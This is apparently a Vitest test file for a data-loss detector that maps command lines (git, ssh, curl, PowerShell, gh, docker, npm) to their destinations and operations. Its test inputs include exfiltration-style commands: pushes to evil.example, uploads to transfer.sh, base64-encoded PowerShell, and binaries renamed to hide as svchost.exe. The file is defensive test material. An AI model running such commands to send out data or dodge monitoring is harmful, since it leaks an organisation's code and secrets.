/** Command lines -> destination. */
import { describe, expect, test } from "vitest";
import { loadCatalogue } from "../../../../content/load-catalogue.ts";
import type { DestinationContext, OcsfEvent } from "../../../../model/activity.ts";
import { createContextBuilder } from "../index.ts";
import { splitCommands } from "./words.ts";

const context = createContextBuilder(loadCatalogue(), {
  sanctioned: { repositories: ["github.com/acme/*", "gitlab.acme.example/*"] },
});

function run(line: string, more: { name?: string; original?: string } = {}): DestinationContext | null {
  const event = {
    class_uid: 1007,
    activity_id: 1,
    time: 0,
    metadata: { product: { name: "Test" } },
    process: { cmd_line: line, ...(more.name === undefined ? {} : { name: more.name, file: { name: more.name } }) },
    ...(more.original === undefined ? {} : { unmapped: { OriginalFileName: more.original } }),
  };
  return context(event as unknown as OcsfEvent).destination;
}

function told(destination: DestinationContext | null): string | null {
  return destination === null ? null : `${destination.name} ${destination.endpoint} ${destination.operation}`;
}

const base64 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

describe("git", () => {
  test.each([
    ["git push https://github.com/al1ce/notes.git main", "github.com/al1ce/notes git push"],
    ["git push https://al1ce:ghp_0123456789@github.com/al1ce/notes.git", "github.com/al1ce/notes git push"],
    ["git push --mirror https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["git push --all --force git@github.com:al1ce/notes.git", "github.com/al1ce/notes ssh push"],
    ["git push -u https://github.com/al1ce/notes.git main", "github.com/al1ce/notes git push"],
    ["git push -o ci.skip https://gitlab.com/a/b/c.git", "gitlab.com/a/b/c git push"],
    ["git push --repo=https://github.com/al1ce/notes.git", "github.com/al1ce/notes git push"],
    ["git push ssh://git@ssh.github.com:443/al1ce/notes.git", "github.com/al1ce/notes ssh push"],
    ["git push ssh://git@altssh.gitlab.com:443/al1ce/notes.git", "gitlab.com/al1ce/notes ssh push"],
    ["git push git@ssh.dev.azure.com:v3/org/proj/repo", "dev.azure.com/org/proj/repo ssh push"],
    ["git push github.com:al1ce/notes.git", "github.com/al1ce/notes ssh push"],
    ["git push git@bitbucket.org:al1ce/notes.git", "bitbucket.org/al1ce/notes ssh push"],
    ["git push git@gist.github.com:aa5a315d61ae9438b18d.git", "gist.github.com/aa5a315d61ae9438b18d ssh push"],
    ["git push codecommit::eu-central-1://profile@tools", "git-codecommit.eu-central-1.amazonaws.com/tools git push"],
    ["git push https://203.0.113.7:3000/x/y.git", "203.0.113.7/x/y git push"],
    ["git push https://evil.example/y", "evil.example/y git push"],
    ["git push origin main", null],
    ["git push", null],
    ["git push ../other", null],
    ["git push C:\\backup\\repo.git", null],
    ["git push file:///srv/x.git", null],
    ["git -C /srv/finance push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["git --git-dir=/x/.git --no-pager push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    [
      "git -c http.extraheader='AUTHORIZATION: basic eA==' push https://github.com/al1ce/notes",
      "github.com/al1ce/notes git push",
    ],
    [
      "git -c url.https://codeberg.org/x/.insteadOf=https://github.com/acme/ push https://github.com/acme/y.git",
      "codeberg.org/x/y git push",
    ],
    ["git -c url.https://codeberg.org/x/y.pushInsteadOf=origin push origin", "codeberg.org/x/y git push"],
    ["git -c url.https://codeberg.org/x/y.git.insteadOf=zz push backup", "codeberg.org/x/y git push"],
    ["git -c remote.origin.url=https://codeberg.org/x/y push origin", "codeberg.org/x/y git push"],
    ["git clone https://github.com/acme/tools", "github.com/acme/tools git fetch"],
    ["git clone --depth 1 -b main git@github.com:acme/tools.git dir", "github.com/acme/tools ssh fetch"],
    ["git clone --mirror https://TOKEN@github.com/acme/tools.git", "github.com/acme/tools git fetch"],
    ["git fetch https://github.com/acme/tools main", "github.com/acme/tools git fetch"],
    ["git pull https://github.com/acme/tools", "github.com/acme/tools git fetch"],
    ["git ls-remote https://github.com/acme/tools", "github.com/acme/tools git read"],
    ["git archive --remote=ssh://git@github.com/acme/tools.git HEAD", "github.com/acme/tools ssh fetch"],
    ["git submodule add https://github.com/acme/tools lib", "github.com/acme/tools git fetch"],
    ["git remote add evil https://github.com/al1ce/notes.git", "github.com/al1ce/notes git unknown"],
    ["git remote set-url --push origin git@github.com:al1ce/notes.git", "github.com/al1ce/notes ssh unknown"],
    ["git remote -v", null],
    ["git config --global url.https://codeberg.org/x/.insteadOf https://github.com/", "codeberg.org git unknown"],
    ["git config remote.origin.url https://codeberg.org/x/y", "codeberg.org/x/y git unknown"],
    ["git subtree push --prefix=a https://github.com/al1ce/notes main", "github.com/al1ce/notes git push"],
    ["git lfs push --all https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["git status", null],
    ["git commit -m 'see https://github.com/al1ce/notes'", null],
    ["git send-pack https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["git-remote-https origin https://github.com/al1ce/notes.git", "github.com/al1ce/notes git unknown"],
    [
      "/usr/lib/git-core/git-remote-https https://github.com/al1ce/notes.git https://github.com/al1ce/notes.git",
      "github.com/al1ce/notes git unknown",
    ],
    ["/usr/bin/git push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ['"C:\\Program Files\\Git\\cmd\\git.exe" push https://github.com/al1ce/notes', "github.com/al1ce/notes git push"],
    ["C:\\Tools\\GIT.EXE push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["GIT_SSH_COMMAND='ssh -i k' git push git@github.com:al1ce/notes.git", "github.com/al1ce/notes ssh push"],
    ["jgit push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
    ["hg push https://foss.heptapod.net/x/y", "foss.heptapod.net/x/y git push"],
    ["svn import ./x https://svn.code.sf.net/p/shop/code -m x", "sourceforge.net/shop/code git push"],
  ])("%s", (line, expected) => {
    expect(told(run(line))).toBe(expected);
  });

  test("under another name", () => {
    expect(told(run("svchost.exe push https://github.com/al1ce/notes.git"))).toBe("github.com/al1ce/notes git push");
    expect(told(run("helper push git@evil.example:x/y.git"))).toBe("evil.example/x/y ssh push");
    expect(told(run("C:\\Windows\\Temp\\a.exe push https://evil.example/y", { original: "git.exe" }))).toBe(
      "evil.example/y git push",
    );
    expect(
      told(run("C:\\Program Files\\Git\\cmd\\git.exe push https://github.com/al1ce/notes", { name: "git.exe" })),
    ).toBe("github.com/al1ce/notes git push");
    expect(told(run("upd -sT a.zip https://transfer.sh/a.zip", { original: "curl.exe" }))).toBe(
      "transfer.sh gist upload",
    );
  });
});

describe("ssh", () => {
  test.each([
    ["ssh git@github.com git-receive-pack 'al1ce/notes.git'", "github.com/al1ce/notes ssh push"],
    [
      "/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/tools.git'\"",
      "github.com/acme/tools ssh fetch",
    ],
    [
      "/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com 'git-receive-pack '\\''al1ce/notes.git'\\'''",
      "github.com/al1ce/notes ssh push",
    ],
    ["ssh -p 443 git@ssh.github.com git-receive-pack /al1ce/notes.git", "github.com/al1ce/notes ssh push"],
    ["ssh -T git@github.com", "github.com ssh connect"],
    ["ssh git@github.com git-lfs-authenticate al1ce/notes.git upload", "github.com/al1ce/notes ssh upload"],
    ["plink.exe -batch -P 22 git@gitlab.com \"git-receive-pack 'a/b.git'\"", "gitlab.com/a/b ssh push"],
    ["ssh root@srv-1.acme.example uptime", null],
    ["ssh git@evil.example git-receive-pack 'x/y.git'", "evil.example/x/y ssh push"],
  ])("%s", (line, expected) => {
    expect(told(run(line))).toBe(expected);
  });
});

describe("HTTP clients", () => {
  test.each([
    [
      "curl -X PUT -H 'Authorization: token x' -d @b.json https://api.github.com/repos/al1ce/notes/contents/a",
      "github.com/al1ce/notes api upload",
    ],
    ["curl -XPUT https://api.github.com/repos/al1ce/notes/contents/a", "github.com/al1ce/notes api upload"],
    [
      "curl --request PUT --url https://api.github.com/repos/al1ce/notes/contents/a",
      "github.com/al1ce/notes api upload",
    ],
    ["curl --request=POST https://api.github.com/gists", "gist.github.com gist upload"],
    ["curl -sSL -d '{\"files\":{}}' https://api.github.com/gists", "gist.github.com gist upload"],
    [
      "curl --data-binary @a.zip https://uploads.github.com/repos/o/r/releases/1/assets?name=a",
      "github.com/o/r upload upload",
    ],
    ["curl -T a.zip https://uploads.github.com/repos/o/r/releases/1/assets", "github.com/o/r upload upload"],
    ["curl -F file=@a.zip https://gitlab.com/api/v4/projects/o%2Fr/uploads", "gitlab.com/o/r api upload"],
    ["curl -G -d q=x https://api.github.com/search/commits", "github.com api read"],
    ["curl https://raw.githubusercontent.com/acme/tools/main/install.sh", "github.com/acme/tools raw read"],
    ["curl -LO github.com/acme/tools/archive/main.zip", "github.com/acme/tools web fetch"],
    [
      'curl -u al1ce:token https://api.github.com/user/repos -d \'{"name":"x","private":false}\'',
      "github.com api create",
    ],
    ["curl -e https://github.com/a/b https://www.example.com/", null],
    ["curl -o /tmp/x https://www.example.com/", null],
    ["curl https://203.0.113.7/x/y.git/git-receive-pack --data-binary @p", "203.0.113.7/x/y git push"],
    ["wget https://github.com/acme/tools/archive/main.zip", "github.com/acme/tools web fetch"],
    ["wget --post-file=a https://api.github.com/gists", "gist.github.com gist upload"],
    ["wget --method=PUT --body-file a https://api.github.com/repos/o/r/contents/a", "github.com/o/r api upload"],
    ["http PUT https://api.github.com/repos/o/r/contents/a message=x", "github.com/o/r api upload"],
    ["http api.github.com/gists public:=false", "gist.github.com gist upload"],
    [
      "powershell -Command \"Invoke-RestMethod -Uri 'https://api.github.com/repos/o/r/contents/x' -Method Put -Body $b\"",
      "github.com/o/r api upload",
    ],
    [
      'powershell.exe -NoProfile -c "irm https://api.github.com/gists -Me Post -InFile a"',
      "gist.github.com gist upload",
    ],
    ["pwsh -Command Invoke-WebRequest -Method POST -Uri https://api.github.com/user/repos", "github.com api create"],
    ["powershell (New-Object Net.WebClient).UploadFile('https://transfer.sh/a','a')", "transfer.sh gist upload"],
    [
      'powershell -c "Start-BitsTransfer -TransferType Upload -Source a -Destination https://transfer.sh/a"',
      "transfer.sh gist upload",
    ],
    [`powershell -enc ${base64("git push https://github.com/al1ce/notes")}`, "github.com/al1ce/notes git push"],
    [
      `powershell -EncodedCommand ${base64("irm -Method PUT https://api.github.com/repos/o/r/contents/x")}`,
      "github.com/o/r api upload",
    ],
    [
      "python3 -c \"import requests; requests.put('https://api.github.com/repos/o/r/contents/x', json={})\"",
      "github.com/o/r api upload",
    ],
    [
      "python -c \"import urllib.request as u; u.urlopen(u.Request('https://api.github.com/gists', data=b''))\"",
      "gist.github.com gist upload",
    ],
    ["node -e \"fetch('https://api.github.com/repos/o/r/contents/x',{method:'PUT'})\"", "github.com/o/r api upload"],
    ["node upload.js https://api.github.com/gists", "gist.github.com gist unknown"],
    ["python -c \"import subprocess as s; s.run(['git','push','https://github.com/o/r'])\"", "github.com/o/r git push"],
    ["pip install git+https://github.com/o/r.git@main", "github.com/o/r git fetch"],
    ['"C:\\Program Files\\Google\\Chrome\\chrome.exe" https://github.com/o/r', "github.com/o/r web read"],
  ])("%s", (line, expected) => {
    expect(told(run(line))).toBe(expected);
  });

  test("what makes a repository public is a share", () => {
    expect(run("curl -X PATCH -d '{\"private\":false}' https://api.github.com/repos/acme/tools")).toMatchObject({
      operation: "share",
      visibility: "public",
    });
    expect(run("curl -X PATCH -d '{\"private\": true}' https://api.github.com/repos/acme/tools")).toMatchObject({
      operation: "change",
      visibility: "private",
    });
    expect(run('curl -d \'{"name":"x","private":false}\' https://api.github.com/user/repos')).toMatchObject({
      operation: "create",
      visibility: "public",
    });
  });
});

describe("clients of code hosts", () => {
  test.each([
    ["gh repo create al1ce/notes --public --source . --push", "github.com/al1ce/notes git push"],
    ["gh repo create al1ce/notes --private", "github.com/al1ce/notes api create"],
    ["gh repo create notes --public", "github.com api create"],
    ["gh repo clone acme/tools", "github.com/acme/tools git fetch"],
    ["gh repo clone github.acme.example/acme/tools", null],
    ["gh repo edit acme/tools --visibility public", "github.com/acme/tools api share"],
    ["gh repo delete acme/tools --yes", "github.com/acme/tools api delete"],
    ["gh repo fork acme/tools", "github.com api create"],
    ["gh gist create a.txt b.txt", "gist.github.com gist upload"],
    ["gh gist clone aa5a315d61ae9438b18daa5a315d61ae", "gist.github.com/aa5a315d61ae9438b18daa5a315d61ae gist read"],
    ["gh release upload v1 a.zip -R al1ce/notes", "github.com/al1ce/notes upload upload"],
    ["gh release create v1 a.zip --repo al1ce/notes", "github.com/al1ce/notes upload upload"],
    ["gh release download v1 -R acme/tools", "github.com/acme/tools api fetch"],
    ["gh api -X PUT repos/al1ce/notes/contents/a -f message=x", "github.com/al1ce/notes api upload"],
    ["gh api /user/repos -f name=x", "github.com api create"],
    ["gh api user", "github.com api read"],
    ["gh api graphql -f query=x", "github.com api unknown"],
    ["gh auth token", null],
    ["gh run download 1 -R acme/tools", "github.com/acme/tools api fetch"],
    ["glab repo clone group/sub/tools", "gitlab.com/group/sub/tools git fetch"],
    ["glab repo create group/tools --public", "gitlab.com/group/tools api create"],
    ["glab snippet create a.txt --title x", "gitlab.com/-/snippets gist upload"],
    ["glab api projects/group%2Ftools/repository/commits -X POST", "gitlab.com/group/tools api upload"],
    ["GITLAB_HOST=gitlab.acme.example glab repo clone group/tools", "gitlab.acme.example/group/tools git fetch"],
    ["huggingface-cli upload alice/dump ./x --repo-type dataset", "huggingface.co/datasets/alice/dump api upload"],
    ["hf upload alice/net .", "huggingface.co/alice/net api upload"],
    ["hf upload-large-folder alice/dump --repo-type=dataset .", "huggingface.co/datasets/alice/dump api upload"],
    ["hf download acme/net", "huggingface.co/acme/net api fetch"],
    [
      "huggingface-cli repo create dump --type dataset --organization acme",
      "huggingface.co/datasets/acme/dump api create",
    ],
    ["docker push ghcr.io/acme/app:1.2", "github.com/acme registry upload"],
    ["docker push mallory/dump", "docker.io/mallory/dump registry upload"],
    ["podman push localhost:5000/x/y", null],
    ["npm publish --access public", "registry.npmjs.org registry upload"],
    ["npm publish --registry https://npm.acme.example", null],
    ["npm install", null],
    ["twine upload dist/*", "pypi.org registry upload"],
    ["cargo publish", "crates.io registry upload"],
  ])("%s", (line, expected) => {
    expect(told(run(line))).toBe(expected);
  });

  test("visibility as the options say", () => {
    expect(run("gh repo create al1ce/notes --public")?.visibility).toBe("public");
    expect(run("gh repo create al1ce/notes --private")?.visibility).toBe("private");
    expect(run("gh gist create -p a")?.visibility).toBe("public");
    expect(run("gh gist create a")?.visibility).toBe("private");
  });
});

describe("shells and wrappers", () => {
  test.each([
    "sh -c 'git push https://github.com/al1ce/notes'",
    'bash -lc "cd /srv && git push https://github.com/al1ce/notes"',
    "bash -c git push https://github.com/al1ce/notes",
    'cmd.exe /c "git push https://github.com/al1ce/notes"',
    "cmd /c git push https://github.com/al1ce/notes",
    "sudo -u bob bash -c \"sh -c 'git push https://github.com/al1ce/notes'\"",
    "nohup git push https://github.com/al1ce/notes &",
    "timeout 30 git push https://github.com/al1ce/notes",
    "env GIT_TRACE=1 git push https://github.com/al1ce/notes",
    "tar czf - x | tee y; git push https://github.com/al1ce/notes",
    "git status && git push https://github.com/al1ce/notes",
    "git clone https://github.com/acme/tools; git push https://github.com/al1ce/notes",
    "(git push https://github.com/al1ce/notes)",
    "echo $(git push https://github.com/al1ce/notes)",
    "x\ngit push https://github.com/al1ce/notes\ny",
    'powershell -Command "& git push https://github.com/al1ce/notes"',
    "wsl git push https://github.com/al1ce/notes",
  ])("%s", (line) => {
    expect(told(run(line))).toBe("github.com/al1ce/notes git push");
  });
});

describe("words", () => {
  test.each([
    ["a b", [["a", "b"]]],
    ['"a b" c', [["a b", "c"]]],
    ["'a b' c", [["a b", "c"]]],
    ['a "b \\"c\\" d"', [["a", 'b "c" d']]],
    ["C:\\a\\b\\ x", [["C:\\a\\b\\", "x"]]],
    ["C:\\Users\\O'Neil x", [["C:\\Users\\O'Neil", "x"]]],
    ["a | b || c && d & e ; f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]],
    ["a;b", [["a"], ["b"]]],
    ["curl https://x/?a=1&b=2;c", [["curl", "https://x/?a=1&b=2;c"]]],
    ['"unclosed a', [['"unclosed', "a"]]],
    ["", []],
    ["   ", []],
  ])("%j", (line, expected) => {
    expect(splitCommands(line)).toEqual(expected);
  });
});

test("scripts are read like command lines", () => {
  const event = {
    class_uid: 1009,
    activity_id: 1,
    time: 0,
    metadata: { product: { name: "PowerShell" } },
    script: {
      script_content: {
        value: "$b = 1\nInvoke-RestMethod -Method Put -Uri 'https://api.github.com/repos/o/r/contents/x'",
      },
      type_id: 2,
    },
  };
  expect(told(context(event as unknown as OcsfEvent).destination)).toBe("github.com/o/r api upload");
});

test("a process that ends sends nothing", () => {
  const event = {
    class_uid: 1007,
    activity_id: 2,
    time: 0,
    metadata: { product: { name: "Test" } },
    process: { cmd_line: "git push https://github.com/o/r" },
  };
  expect(context(event as unknown as OcsfEvent).destination).toBeNull();
});

test("no secret of a command line reaches the context", () => {
  for (const line of [
    "git push https://user:s3cret@github.com/al1ce/notes",
    "git -c url.https://s3cret@codeberg.org/x/.insteadOf=y push y",
    "curl -u a:s3cret https://api.github.com/gists -d x",
    "git push https://s3cret@evil.example/x",
  ]) {
    expect(JSON.stringify(run(line))).not.toContain("s3cret");
  }
});
